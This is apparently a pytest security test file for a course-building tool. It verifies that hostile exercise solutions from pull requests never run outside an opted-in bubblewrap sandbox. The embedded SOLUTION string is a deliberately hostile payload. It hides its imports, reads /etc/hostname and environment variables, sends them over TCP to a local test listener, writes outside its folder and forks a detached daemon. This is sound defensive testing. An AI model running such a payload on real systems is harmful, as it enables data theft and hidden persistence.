"""Issue 69: a pull request's exercise runs nothing on the maintainer's machine unless asked, and
in the sandbox when asked. Each command is attacked as the issue reported it: a `solution:` that
writes a file outside its folder, reads /etc/hostname and sends it over TCP to a listener on
127.0.0.1, reads the caller's environment, and forks a `setsid` daemon that writes a file two
seconds later. Its imports are hidden from the static check (as an attacker would hide them), so
only the run decides. The page's side is tests/core/widgets/runnable/test_runnable_policy.py."""

from __future__ import annotations

import json
import os
import socket
import threading
import time
from pathlib import Path

import pytest

from support import harness
from support.course import lesson_md, make_course, run_cli, write
from tracksite.commands import cli
from tracksite.core import localstate, sandbox
from tracksite.core.widgets.runnable import check as runnable

SOLUTION = """\
imp = getattr(__import__("builtins"), "__imp" + "ort__")
osm, so, tm = imp("o" + "s"), imp("so" + "cket"), imp("ti" + "me")
try:
    open({escaped!r}, "w").write("escaped")
except OSError:
    pass
try:
    name = open("/etc/hostname").read()
except OSError:
    name = "no hostname"
try:
    s = so.create_connection(("127.0.0.1", {port}), timeout=2)
    s.sendall(name.encode() + osm.environ.get("TRACKSITE_CACHE_DIR", "no state folder").encode())
    s.close()
except OSError:
    pass
try:
    if osm.fork() == 0:
        osm.setsid()
        tm.sleep(2)
        open({daemon!r}, "w").write("alive")
        osm._exit(0)
except OSError:
    pass
SEEN = [open("/etc/hostname").read() if osm.path.exists("/etc/hostname") else "",
        osm.environ.get("TRACKSITE_CACHE_DIR", "")]
def double(x):
    return 2 * x
"""


class Listener:
    """A TCP listener on 127.0.0.1 that records every connection and what it was sent."""

    def __init__(self) -> None:
        self.sock = socket.socket()
        self.sock.bind(("127.0.0.1", 0))
        self.sock.listen(8)
        self.sock.settimeout(0.2)
        self.port = self.sock.getsockname()[1]
        self.received: list[bytes] = []
        self.open = True
        self.thread = threading.Thread(target=self._accept, daemon=True)
        self.thread.start()

    def _accept(self) -> None:
        while self.open:
            try:
                conn, _ = self.sock.accept()
            except OSError:
                continue
            with conn:
                conn.settimeout(2)
                try:
                    self.received.append(conn.recv(4096) or b"(connected)")
                except OSError:
                    self.received.append(b"(connected)")

    def close(self) -> None:
        self.open = False
        self.thread.join()
        self.sock.close()


@pytest.fixture
def attack(tmp_path):
    """A fresh course whose lesson carries the hostile exercise: (root, listener, outside, daemon)."""
    root = make_course(tmp_path / "course")
    outside, daemon = tmp_path / "escaped.txt", tmp_path / "daemon.txt"
    listener = Listener()
    solution = SOLUTION.format(escaped=str(outside), port=listener.port, daemon=str(daemon))
    block = (
        "/// runnable | Double it\ncode: |\n  def double(x):\n      return x\ntests: |\n  assert double(2) == 4\n"
        "solution: |\n" + "".join(f"  {line}\n" for line in solution.splitlines()) + "timeout: 5\n///\n"
    )
    write(
        root, "lessons/alpha/a1/lesson.md", lesson_md("First lesson", body="## Practice\n\n" + block + "Words. " * 40)
    )
    yield root, listener, outside, daemon
    listener.close()


def ran_nothing(listener: Listener, outside: Path, daemon: Path) -> None:
    time.sleep(2.5)  # a daemon would have written by now
    assert not outside.exists(), "the solution wrote outside its folder"
    assert listener.received == [], "the solution reached a host"
    assert not daemon.exists(), "a process the solution started outlived the command"


def test_check_runs_no_exercise_and_says_so(attack):
    root, listener, outside, daemon = attack
    result = run_cli(root, ["check"])
    ran_nothing(listener, outside, daemon)
    assert result.returncode == 0, result.stdout + result.stderr
    assert "1 exercise not run (`--run-code` runs them in a sandbox)" in result.stderr


def test_check_watch_runs_no_exercise(attack):
    root, listener, outside, daemon = attack
    args = cli.build_parser(["check", "--watch"]).parse_args(["check", "--watch"])
    out, summary, code = cli.run_check(root, args)  # what each save of `check --watch` runs
    assert code == 0 and "not run" in summary, out
    ran_nothing(listener, outside, daemon)


def test_a_strict_build_runs_no_exercise(attack):
    root, listener, outside, daemon = attack
    result = harness.mkdocs(root, site=root / "site")
    assert result.returncode == 0, result.stderr
    assert "judged without running them" in result.stderr
    ran_nothing(listener, outside, daemon)


def test_the_language_server_runs_no_exercise_even_when_mkdocs_yml_asks(attack, monkeypatch):
    """Nor when the environment asks (TRACKSITE_RUN_CODE=1): an editor opening a checkout runs nothing."""
    from tracksite.commands import lspserver

    root, listener, outside, daemon = attack
    monkeypatch.setenv(sandbox.ASK, "1")
    config = root / "mkdocs.yml"
    config.write_text(
        config.read_text(encoding="utf-8").replace("- tracksite", "- tracksite:\n      run_code: true", 1)
    )
    assert "run_code: true" in config.read_text(encoding="utf-8")
    lspserver.diagnostics(root)
    ran_nothing(listener, outside, daemon)


def test_serve_runs_no_exercise(attack):
    from support.serving import serving, wait_for

    root, listener, outside, daemon = attack
    with serving(root) as (base, proc):
        wait_for(base + "alpha/a1/", "Double it")
    ran_nothing(listener, outside, daemon)


def test_run_code_runs_the_exercise_in_the_sandbox(attack, needs_sandbox):
    root, listener, outside, daemon = attack
    result = run_cli(root, ["check", "--run-code", "--format", "json"])
    found = [p for p in json.loads(result.stdout) if p["code"].startswith("TS43")]
    # the solution ran (it passed its test, with every escape refused) and the start did not pass
    assert found == [], found
    ran_nothing(listener, outside, daemon)
    verdicts = json.loads((localstate.path(root, "tracksite") / runnable.FILE).read_text(encoding="utf-8"))
    assert [v[0]["status"] for v in verdicts.values()] == ["passed"]


def test_the_sandbox_holds_what_the_solution_tries(tmp_path, needs_sandbox):
    """The same attacks, with what the sandboxed code saw handed back."""
    listener = Listener()
    script = tmp_path / "probe.py"
    home = Path.home() / ".tracksite-sandbox-probe"
    script.write_text(
        "import os, socket, json, subprocess\n"
        "seen = {}\n"
        "for name, act in [\n"
        f"    ('write', lambda: open({str(tmp_path / 'out.txt')!r}, 'w').write('x')),\n"
        f"    ('home', lambda: open({str(home)!r}, 'w').write('x')),\n"
        "    ('hostname', lambda: open('/etc/hostname').read()),\n"
        f"    ('state', lambda: os.listdir({os.environ['TRACKSITE_CACHE_DIR']!r})),\n"
        f"    ('tcp', lambda: socket.create_connection(('127.0.0.1', {listener.port}), timeout=2)),\n"
        "    ('fork', lambda: os.fork()),\n"
        "    ('subprocess', lambda: subprocess.run(['true'])),\n"
        "    ('scratch', lambda: open('big', 'wb').write(b'x' * 2**30)),\n"
        "    ('memory', lambda: bytearray(2**31)),\n"
        "]:\n"
        "    try:\n"
        "        act(); seen[name] = 'done'\n"
        "    except BaseException as e:\n"
        "        seen[name] = type(e).__name__\n"
        "seen['env'] = sorted(os.environ)\n"
        "print(json.dumps(seen))\n",
        encoding="utf-8",
    )
    try:
        done = sandbox.run_python(script, "", 20)
    finally:
        listener.close()
    seen = json.loads(done.stdout.strip().splitlines()[-1])
    assert {k: v for k, v in seen.items() if v == "done"} == {}, seen
    assert listener.received == [] and not (tmp_path / "out.txt").exists() and not home.exists()
    assert "TRACKSITE_CACHE_DIR" not in seen["env"] and "PATH" not in seen["env"], seen["env"]
    # 400 MB printed: what is read back of it is bounded, whatever the run writes
    script.write_text("import sys\nfor _ in range(400):\n    sys.stdout.write('x' * 2**20)\n", encoding="utf-8")
    flood = sandbox.run_python(script, "", 20)
    assert flood.returncode != 0 and len(flood.stdout) <= sandbox.OUTPUT, (flood.returncode, len(flood.stdout))
    # a busy loop is ended by the wall time, and what it started with it
    script.write_text("while True:\n    pass\n", encoding="utf-8")
    started = time.monotonic()
    assert sandbox.run_python(script, "", 2).returncode is None
    assert time.monotonic() - started < 10


def test_run_code_refuses_without_a_sandbox(attack, monkeypatch):
    root, listener, outside, daemon = attack
    monkeypatch.setattr(
        sandbox, "unavailable", lambda: "running exercises needs bubblewrap (`bwrap`), which is not installed"
    )
    result = run_cli(root, ["check", "--run-code"])
    assert result.returncode == 2 and "--run-code runs exercises only in a sandbox" in result.stderr, result.stderr
    ran_nothing(listener, outside, daemon)


def test_import_no_execute_runs_neither_r_nor_python(tmp_path):
    """`import carpentries --no-execute`, offered for a lesson you do not trust, runs none of the
    code a lesson carries: its R chunks, and the runnable exercises its Markdown holds, which the
    import's own check and build of the course ran (issue 69)."""
    from support.rmarkdown import import_lesson, lesson_variant

    ran_py, ran_r = tmp_path / "python-ran.txt", tmp_path / "r-ran.txt"
    block = (
        "/// runnable | Double it\ncode: |\n  def double(x):\n      return x\ntests: |\n  assert double(2) == 4\n"
        f"solution: |\n  open({str(ran_py)!r}, 'w').write('ran')\n  def double(x):\n      return 2 * x\n///\n\n"
        f'```{{r}}\ncat("ran", file = "{ran_r}")\n```\n\n## Challenge 1'
    )
    lesson = lesson_variant(tmp_path, "## Challenge 1", block)
    import_lesson(tmp_path / "course", lesson, "--no-execute")
    assert "/// runnable | Double it" in (tmp_path / "course/lessons/gapminder/plot-ggplot2/lesson.md").read_text()
    assert not ran_py.exists() and not ran_r.exists()


def test_an_export_runs_no_exercise(attack, tmp_path):
    """Every export builds the course as `mkdocs build` does: nothing runs by default."""
    root, listener, outside, daemon = attack
    result = run_cli(root, ["export", "offline", "--out", str(tmp_path / "course-offline.zip")])
    assert result.returncode == 0, result.stderr[-2000:]
    ran_nothing(listener, outside, daemon)


WRONG = "/// runnable | Wrong\ncode: x = 1\ntests: assert x == 2\nsolution: x = 3\n///\n"


def test_the_environment_makes_the_build_run_the_exercises_and_mkdocs_yml_does_not(tmp_path, needs_sandbox):
    """The opt-in for builds is the person's who runs it (issue 81): off, a wrong solution builds
    (judged statically, noted); `run_code: true` in mkdocs.yml, which a pull request can write,
    runs nothing and says so (TS435, at its line); TRACKSITE_RUN_CODE=1 runs it in the sandbox and
    the build stops at TS431."""
    root = make_course(tmp_path / "course")
    write(root, "lessons/alpha/a1/lesson.md", lesson_md("First lesson", body="## Practice\n\n" + WRONG))
    assert harness.mkdocs(root, site=root / "site", env={sandbox.ASK: None}).returncode == 0
    config = root / "mkdocs.yml"
    config.write_text(
        config.read_text(encoding="utf-8").replace("- tracksite", "- tracksite:\n      run_code: true", 1)
    )
    line = config.read_text(encoding="utf-8").splitlines().index("      run_code: true") + 1
    lax = harness.mkdocs(root, site=root / "site", strict=False, env={sandbox.ASK: None})
    assert lax.returncode == 0 and "TS431" not in lax.stderr, lax.stderr[-2000:]
    assert f"mkdocs.yml:{line}" in lax.stderr and "TS435" in lax.stderr and sandbox.ASK in lax.stderr, lax.stderr
    checked = run_cli(root, ["check", "--format", "json"])
    assert [p["code"] for p in json.loads(checked.stdout) if p["code"].startswith("TS43")] == ["TS435"]
    result = harness.mkdocs(root, site=root / "site", env={sandbox.ASK: "1"})
    assert result.returncode != 0 and "TS431" in result.stderr, result.stderr[-2000:]


def test_a_solution_that_is_not_python_is_found_without_running_it(tmp_path):
    root = make_course(tmp_path / "course")
    block = "/// runnable | Broken\ncode: x = 1\ntests: |\n  assert x == 2\nsolution: |\n  x = 2\n  x +* 1\n///\n"
    text = lesson_md("First lesson", body="## Practice\n\n" + block)
    write(root, "lessons/alpha/a1/lesson.md", text)
    result = run_cli(root, ["check", "--format", "json"])
    found = [(p["code"], p["line"]) for p in json.loads(result.stdout) if p["code"].startswith("TS43")]
    assert found == [("TS433", text.split("\n").index("  x +* 1") + 1)], found


def test_run_code_asked_by_the_environment_without_a_sandbox_is_an_error_not_a_run(attack, monkeypatch):
    root, listener, outside, daemon = attack
    monkeypatch.setenv(sandbox.ASK, "1")
    monkeypatch.setattr(sandbox, "unavailable", lambda: "bubblewrap (`bwrap`) could not make a sandbox here")
    result = run_cli(root, ["check", "--format", "json"])
    assert result.returncode == 2 and f"{sandbox.ASK}=1 runs exercises only in a sandbox" in result.stderr
    assert "TS434" in result.stderr, result.stderr
    build = harness.mkdocs(root, site=root / "site")
    assert build.returncode != 0 and "TS434" in build.stderr, build.stderr[-2000:]
    ran_nothing(listener, outside, daemon)


def test_run_code_in_mkdocs_yml_alone_runs_nothing(attack, monkeypatch):
    """A pull request's `run_code: true` (the route of issue 81's SB1) runs nothing: check and a
    build judge the exercise without running it, and say the setting is not the opt-in."""
    root, listener, outside, daemon = attack
    monkeypatch.delenv(sandbox.ASK, raising=False)
    config = root / "mkdocs.yml"
    config.write_text(
        config.read_text(encoding="utf-8").replace("- tracksite", "- tracksite:\n      run_code: true", 1)
    )
    result = run_cli(root, ["check", "--format", "json"])
    assert [p["code"] for p in json.loads(result.stdout) if p["code"].startswith("TS43")] == ["TS435"]
    assert "1 exercise not run" in run_cli(root, ["check"]).stderr
    build = harness.mkdocs(root, site=root / "site", strict=False)
    assert build.returncode == 0 and "judged without running them" in build.stderr, build.stderr[-2000:]
    ran_nothing(listener, outside, daemon)
